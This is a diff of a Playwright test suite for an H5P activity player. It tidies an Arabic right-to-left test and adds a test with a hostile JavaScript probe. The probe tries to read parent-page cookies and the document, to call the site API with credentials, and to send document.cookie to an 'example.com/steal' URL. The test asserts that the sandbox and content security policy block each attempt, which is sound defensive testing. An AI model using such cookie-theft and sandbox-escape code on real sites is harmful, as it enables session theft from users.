@@ -38,33 +38,21 @@ def test_learner_answers_the_true_false_activity_and_the_result_is_stored(
     learner = UserFactory()
     log_in(visit, h5p_site, learner)
     page = visit.page
-    messages = []
-    page.on("console", lambda m: messages.append("console: " + m.text))
-    page.on("response", lambda r: messages.append(f"{r.status} {r.url[:150]}"))
-    page.on("requestfailed", lambda r: messages.append(f"FAILED {r.url[:150]} {r.failure}"))
     page.goto(f"{h5p_site}/test-h5p/{package.pk}/{home_page.pk}/")
     frame_el = page.locator("iframe.h5p-activity__frame")
     assert frame_el.get_attribute("sandbox") == "allow-scripts"
     assert frame_el.get_attribute("src").startswith(f"{h5p_site.replace('127.0.0.1', 'localhost')}/h5p/p/")
     player = page.frame_locator("iframe.h5p-activity__frame")
-    try:
-        player.get_by_text("False", exact=True).click(timeout=15000)
-    finally:
-        visit.screenshot("h5p-true-false-ar")
-        print("\n".join(messages))
-        for f in page.frames:
-            try:
-                print("FRAME", f.url[:80], f.evaluate("() => [document.origin, typeof H5P, typeof H5PIntegration, document.documentElement.outerHTML.slice(0, 3000)]"))
-            except Exception as e:
-                print("FRAME ERR", f.url[:80], e)
+    # The question, in the frame from the other origin, right-to-left like the page.
+    player.get_by_text("Is this false?").wait_for(timeout=30000)
+    assert player.locator("html").get_attribute("dir") == "rtl"
+    assert player.locator("body").evaluate("b => getComputedStyle(b).direction") == "rtl"
+    visit.screenshot("h5p-true-false-ar")
+    player.get_by_text("False", exact=True).click()
     player.get_by_role("button", name="Check").click()
-    try:
-        page.wait_for_function(
-            "document.querySelector('.h5p-activity__status').textContent.length > 0",
-            timeout=10000,
-        )
-    finally:
-        print("AFTER", "\n".join(m for m in messages if "resize" not in m))
+    page.wait_for_function(
+        "document.querySelector('.h5p-activity__status').textContent.length > 0"
+    )
     result = H5PResult.objects.get()
     assert result.user == learner and result.package == package
     assert result.page_id == home_page.pk
@@ -73,3 +61,77 @@ def test_learner_answers_the_true_false_activity_and_the_result_is_stored(
     assert "actor" not in json.dumps(result.statement)
     visit.screenshot("h5p-true-false-answered")
     assert visit.foreign_requests("localhost") == []
+
+
+PROBE = """
+var SITE = '__SITE__';
+var report = {violations: []};
+document.addEventListener('securitypolicyviolation', function (e) {
+  report.violations.push(e.violatedDirective + ' ' + e.blockedURI);
+});
+function attempt(name, fn) {
+  try { report[name] = 'allowed: ' + String(fn()).slice(0, 80); }
+  catch (e) { report[name] = 'blocked: ' + e.name; }
+}
+attempt('parentDocument', function () { return parent.document.title; });
+attempt('parentCookie', function () { return parent.document.cookie; });
+attempt('topLocation', function () { return top.location.href; });
+attempt('cookie', function () {
+  return Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document);
+});
+attempt('popup', function () {
+  var w = window.open(SITE + '/ar/');
+  if (!w) { throw {name: 'NoWindow'}; }
+  return 'opened';
+});
+function tryFetch(name, url, options) {
+  return fetch(url, options).then(
+    function (r) { report[name] = 'allowed: ' + r.status; },
+    function (e) { report[name] = 'blocked: ' + e.name; });
+}
+Promise.all([
+  tryFetch('siteApi', SITE + '/h5p/results/', {method: 'POST', credentials: 'include',
+    headers: {'Content-Type': 'application/json'}, body: '{"activity": "x"}'}),
+  tryFetch('sitePage', SITE + '/ar/', {credentials: 'include'}),
+  tryFetch('outside', 'http://example.com/steal?c=' + encodeURIComponent(document.cookie),
+           {mode: 'no-cors'}),
+  tryFetch('control', location.origin + '/h5p/lib/Basira.Probe-1.0/library.json', {})
+]).then(function () {
+  var n = 0;
+  var timer = setInterval(function () {
+    parent.postMessage({source: 'basira-probe', report: report}, '*');
+    if (++n > 40) { clearInterval(timer); }
+  }, 250);
+});
+"""
+
+
+def test_a_hostile_package_cannot_reach_the_site_its_cookies_or_the_network(
+    visit, h5p_site, home_page
+):
+    script = PROBE.replace("__SITE__", h5p_site)
+    package = ingest_package(upload=io.BytesIO(own_package(script)), title="مسبار")
+    learner = UserFactory()
+    log_in(visit, h5p_site, learner)
+    page = visit.page
+    page.goto(f"{h5p_site}/test-h5p/{package.pk}/{home_page.pk}/", wait_until="commit")
+    page.evaluate("""() => { window.__probe = null; window.addEventListener('message', e => {
+        if (e.data && e.data.source === 'basira-probe') { window.__probe = e.data.report; } }); }""")
+    page.wait_for_function("window.__probe !== null", timeout=30000)
+    report = page.evaluate("window.__probe")
+    visit.screenshot("h5p-hostile-probe")
+    assert report["control"] == "allowed: 200", report  # the probe itself did run
+    assert report["parentDocument"] == "blocked: SecurityError", report
+    assert report["parentCookie"] == "blocked: SecurityError", report
+    assert report["topLocation"] == "blocked: SecurityError", report
+    assert report["cookie"] == "blocked: SecurityError", report
+    assert report["popup"] == "blocked: NoWindow", report
+    assert report["siteApi"] == "blocked: TypeError", report
+    assert report["sitePage"] == "blocked: TypeError", report
+    assert report["outside"] == "blocked: TypeError", report
+    violations = " ".join(report["violations"])
+    assert f"connect-src {h5p_site}/h5p/results/" in violations, violations
+    assert "connect-src http://example.com/steal" in violations, violations
+    # None of those requests left the browser.
+    assert not [url for url in visit.requests if "/h5p/results/" in url or "example.com" in url]
+    assert not H5PResult.objects.exists()
